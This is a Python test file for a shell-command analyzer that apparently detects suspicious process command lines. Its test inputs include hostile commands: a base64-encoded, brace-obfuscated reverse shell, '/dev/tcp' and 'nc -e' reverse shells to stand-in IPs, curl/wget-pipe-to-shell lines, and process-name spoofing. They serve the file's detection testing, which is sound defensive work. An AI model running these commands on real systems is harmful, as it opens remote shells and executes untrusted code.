"""What a shell runs: -c extraction, lexing, brace expansion, wrappers and nested shells (table-driven)."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shellwatch.match.shell_commands import (
    Analysis,
    ShellInput,
    ShellSyntax,
    Wrapper,
    analyze_args,
    analyze_command_line,
    shell_input,
)
from shellwatch.match.shell_lexer import MAX_BRACE_WORDS, expand_braces, parse_script
from shellwatch.rules.shell_rule import load_shell_rule

SYNTAX = load_shell_rule().syntax
PAYLOAD = "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ==}|{base64,-d}|{bash,-i}"


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["bash", "-c", "id"], ShellInput("id", None)),
        (["/bin/sh", "-c", "id; ls"], ShellInput("id; ls", None)),
        (["bash", "-lc", "id"], ShellInput("id", None)),
        (["bash", "-ec", "id"], ShellInput("id", None)),
        (["bash", "-xc", "id"], ShellInput("id", None)),
        (["bash", "-cx", "id"], ShellInput("id", None)),
        (["bash", "-c", "-x", "id"], ShellInput("id", None)),  # bash: the first operand, options may follow -c
        (["bash", "-o", "pipefail", "-c", "id"], ShellInput("id", None)),
        (["bash", "+o", "history", "-c", "id"], ShellInput("id", None)),
        (["bash", "-O", "extglob", "-c", "id"], ShellInput("id", None)),
        (["bash", "--norc", "--noprofile", "-c", "id"], ShellInput("id", None)),
        (["bash", "--rcfile", "/x", "-c", "id"], ShellInput("id", None)),
        (["bash", "-c", "--", "id"], ShellInput("id", None)),
        (["bash", "-c", "id", "arg0", "arg1"], ShellInput("id", None)),
        (["fish", "--command=id"], ShellInput("id", None)),
        (["fish", "--command", "id"], ShellInput("id", None)),
        (["sh", "-c"], ShellInput(None, None)),
        (["bash", "/tmp/x.sh", "a"], ShellInput(None, "/tmp/x.sh")),
        (["bash", "-x", "/tmp/x.sh"], ShellInput(None, "/tmp/x.sh")),
        (["bash", "--", "-weird.sh"], ShellInput(None, "-weird.sh")),
        (["bash", "-s", "arg"], ShellInput(None, None)),
        (["bash", "-i"], ShellInput(None, None)),
        (["bash"], ShellInput(None, None)),
    ],
)
def test_shell_input(argv: list[str], expected: ShellInput) -> None:
    assert shell_input(argv) == expected


def _words(text: str) -> list[list[list[str]]]:
    return [[list(command.words) for command in pipeline] for pipeline in parse_script(text).pipelines]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("id", [[["id"]]]),
        ("id; ls -la", [[["id"]], [["ls", "-la"]]]),
        ("id && ls || pwd & ps\nuname", [[["id"]], [["ls"]], [["pwd"]], [["ps"]], [["uname"]]]),
        ("curl -s http://x | sh", [[["curl", "-s", "http://x"], ["sh"]]]),
        ("a |& b | c", [[["a"], ["b"], ["c"]]]),
        ("echo 'a b; c' \"d | e\" f\\ g", [[["echo", "a b; c", "d | e", "f g"]]]),
        ('echo "a \\"q\\" b"', [[["echo", 'a "q" b']]]),
        ("echo 'unbalanced; id", [[["echo", "unbalanced; id"]]]),
        ('echo "unbalanced; id', [[["echo", "unbalanced; id"]]]),
        ("echo it\\", [[["echo", "it"]]]),
        ("cmd # comment; id", [[["cmd"]]]),
        ("FOO=1 BAR=2 env", [[["env"]]]),
        ("if id; then ls; fi", [[["id"]], [["ls"]]]),
        ("for i in a b; do id; done", [[["id"]]]),
        ("(id; ls)", [[["id"]], [["ls"]]]),
        ("{ id; }", [[["id"]]]),
        ("", []),
        (";;; | &&", []),
        ("curl${IFS}http://x|sh", [[["curl", "http://x"], ["sh"]]]),
        ("curl$IFS'http://x'", [[["curl", "http://x"]]]),
        ("echo $'a\\x41\\n'", [[["echo", "aA\n"]]]),
        (
            PAYLOAD,
            [[["echo", "YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ=="], ["base64", "-d"], ["bash", "-i"]]],
        ),
    ],
)
def test_parse_script(text: str, expected: list[list[list[str]]]) -> None:
    assert _words(text) == expected


def test_redirections_are_kept_apart_from_arguments() -> None:
    (pipeline,) = parse_script("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 2>/dev/null").pipelines
    (command,) = pipeline
    assert command.words == ("bash", "-i")
    assert command.redirects == (">&", "/dev/tcp/10.0.0.1/4242", "0>&", "1", "2>", "/dev/null")


def test_substitutions_are_collected() -> None:
    script = parse_script('echo $(whoami) "$(id -u)" `uname -a` $((1 + 2)) $(echo $(hostname))')
    assert script.substitutions == ("whoami", "id -u", "uname -a", "echo $(hostname)")


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("{a,b,c}", ["a", "b", "c"]),
        ("x{a,b}y", ["xay", "xby"]),
        ("{a,{b,c}}", ["a", "b", "c"]),
        ("{a,b}{1,2}", ["a1", "a2", "b1", "b2"]),
        ("{a}", ["{a}"]),
        ("{a,b", ["{a,b"]),
        ("{,}", []),
        ("plain", ["plain"]),
    ],
)
def test_brace_expansion(word: str, expected: list[str]) -> None:
    marked = word.replace("{", "\ue000").replace(",", "\ue001").replace("}", "\ue002")
    assert expand_braces(marked) == expected


def test_quoted_braces_and_runaway_expansions_stay_literal() -> None:
    assert _words("echo '{a,b}' \"{c,d}\" \\{e,f}") == [[["echo", "{a,b}", "{c,d}", "{e,f}"]]]
    bomb = "{a,b}" * 9  # 512 words > MAX_BRACE_WORDS
    assert MAX_BRACE_WORDS < 2**9
    assert _words(bomb) == [[[bomb]]]


def _programs(analysis: Analysis) -> list[str]:
    return [command.program for command in analysis.commands]


@pytest.mark.parametrize(
    ("argv", "programs"),
    [
        (["/bin/bash", "-c", "id"], ["bash", "id"]),
        (["/usr/bin/bash", "-c", "/usr/bin/curl -s http://x; /bin/ls"], ["bash", "curl", "ls"]),
        (["sh", "-c", "exec /bin/bash -i"], ["sh", "exec", "bash"]),
        (["sh", "-c", "exec -a kworker bash"], ["sh", "exec", "bash"]),
        (["env", "bash", "-c", "id"], ["env", "bash", "id"]),
        (["env", "-i", "A=1", "B=2", "sh", "-c", "id"], ["env", "sh", "id"]),
        (["env", "-u", "HOME", "-C", "/tmp", "sh"], ["env", "sh"]),
        (["env", "-S", "bash -c id"], ["env", "bash", "id"]),
        (["env", "--split-string=bash -c id"], ["env", "bash", "id"]),
        (["nohup", "curl", "http://x"], ["nohup", "curl"]),
        (["timeout", "5", "id"], ["timeout", "id"]),
        (["timeout", "-s", "KILL", "-k", "1", "5s", "id"], ["timeout", "id"]),
        (["timeout", "--signal=KILL", "--foreground", "5", "id"], ["timeout", "id"]),
        (["busybox", "sh", "-c", "wget http://x"], ["busybox", "sh", "wget"]),
        (["busybox", "nc", "-e", "/bin/sh", "h", "1"], ["busybox", "nc"]),
        (["busybox"], ["busybox"]),
        (["sudo", "-u", "app", "id"], ["sudo", "id"]),
        (["sudo", "-uapp", "-E", "HOME=/x", "--", "id"], ["sudo", "id"]),
        (["sudo", "--user=app", "sh", "-c", "ls"], ["sudo", "sh", "ls"]),
        (["nice", "-n", "10", "id"], ["nice", "id"]),
        (["nice", "-10", "id"], ["nice", "id"]),
        (["setsid", "-f", "bash", "-i"], ["setsid", "bash"]),
        (["stdbuf", "-oL", "-e", "0", "id"], ["stdbuf", "id"]),
        (["env"], ["env"]),
        (["timeout", "5"], ["timeout"]),
        (["sh", "-c", "bash -c 'id'"], ["sh", "bash", "id"]),
        (["sh", "-c", "bash -c \"sh -c 'curl x | sh'\""], ["sh", "bash", "sh", "curl", "sh"]),
        (["sh", "-c", "echo $(whoami) `id`"], ["sh", "echo", "whoami", "id"]),
        (["bash", "/opt/app/run.sh"], ["bash"]),
        (["bash", "-c", PAYLOAD], ["bash", "echo", "base64", "bash"]),
        (["curl", "http://x"], ["curl"]),
    ],
)
def test_analyze_args(argv: list[str], programs: list[str]) -> None:
    assert _programs(analyze_args(argv, SYNTAX)) == programs


def test_pipelines_record_the_command_each_stage_runs() -> None:
    analysis = analyze_args(["sh", "-c", "wget -qO- http://x | sudo -u root bash; id | cat"], SYNTAX)
    assert [[c.program for c in p] for p in analysis.pipelines] == [["wget", "bash"], ["id", "cat"]]
    assert analysis.scripts == ("wget -qO- http://x | sudo -u root bash; id | cat",)


def test_chain_follows_wrappers_but_not_shells() -> None:
    analysis = analyze_args(["env", "A=1", "timeout", "5", "bash", "-c", "curl x"], SYNTAX)
    assert [c.program for c in analysis.chain] == ["env", "timeout", "bash"]
    assert [c.depth for c in analysis.commands] == [0, 1, 2, 3]
    assert analysis.commands[-1].via == "bash -c"


def test_script_paths_are_kept() -> None:
    assert analyze_args(["bash", "-e", "/tmp/x.sh"], SYNTAX).script_paths == ("/tmp/x.sh",)


def test_also_as_analyses_the_real_program_when_argv0_lies() -> None:
    analysis = analyze_args(["kworker", "-c", "id"], SYNTAX, also_as=["bash"])
    assert _programs(analysis) == ["kworker", "bash", "id"]


@pytest.mark.parametrize(
    ("line", "programs", "pipelines"),
    [
        # ECS joins args with spaces: a shell's -c string is the rest of the line
        ("/bin/sh -c curl http://x | bash", ["sh", "curl", "bash"], [["curl", "bash"]]),
        ("bash -x -lc id; ls", ["bash", "id", "ls"], []),
        ("sh -c", ["sh"], []),
        ("bash /tmp/x.sh | tee", ["bash", "tee"], [["bash", "tee"]]),
        # anything else is lexed as a script
        ("nc -e /bin/sh 10.0.0.1 4444; id", ["nc", "id"], []),
        ("env A=1 sh -c 'curl x'", ["env", "sh", "curl"], []),
    ],
)
def test_command_line_fallback(line: str, programs: list[str], pipelines: list[list[str]]) -> None:
    analysis = analyze_command_line(line, SYNTAX)
    assert _programs(analysis) == programs
    assert [[c.program for c in p] for p in analysis.pipelines] == pipelines
    assert analysis.chain[0].program == programs[0]


def test_nesting_stops_at_the_depth_limit() -> None:
    text = "id"
    for _ in range(10):
        text = f"sh -c {shlex.quote(text)}"
    assert _programs(analyze_args(["sh", "-c", text], SYNTAX))[-1] == "sh"  # the default limit, 8, is reached too
    syntax = ShellSyntax(SYNTAX.shells, SYNTAX.wrappers, max_depth=4)
    analysis = analyze_args(["sh", "-c", text], syntax)
    assert analysis.truncated
    assert [c.depth for c in analysis.commands] == [0, 1, 2, 3, 4]


def test_nested_quoting_is_followed_to_the_innermost_command() -> None:
    text = "id"
    for _ in range(5):
        text = f"bash -c {shlex.quote(text)}"
    analysis = analyze_args(["sh", "-c", text], SYNTAX)
    assert _programs(analysis) == ["sh", "bash", "bash", "bash", "bash", "bash", "id"]
    assert not analysis.truncated


def test_command_count_is_bounded() -> None:
    syntax = ShellSyntax(SYNTAX.shells, SYNTAX.wrappers, max_commands=10)
    analysis = analyze_args(["sh", "-c", "; ".join(["id"] * 100)], syntax)
    assert len(analysis.commands) == 10 and analysis.truncated


def test_wrapper_unwrap_edge_cases() -> None:
    timeout = Wrapper(frozenset({"-s"}), operands=1)
    assert timeout.unwrap(["-s"]) == ()
    assert timeout.unwrap(["--", "5", "id"]) == ("id",)
    env = Wrapper(frozenset({"-S"}), frozenset({"-S"}), assignments=True)
    assert env.unwrap(["-", "X=1", "-Sbash -i", "extra"]) == ("bash", "-i", "extra")


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab -c'\"\\$(){},;|&<>`\n#=/0123456789IFS")), max_size=80))
def test_parsing_never_raises(text: str) -> None:
    parse_script(text)
    analyze_command_line(text, SYNTAX)
    analyze_args(["sh", "-c", text], SYNTAX)
    analyze_args(["env", *text.split()], SYNTAX)
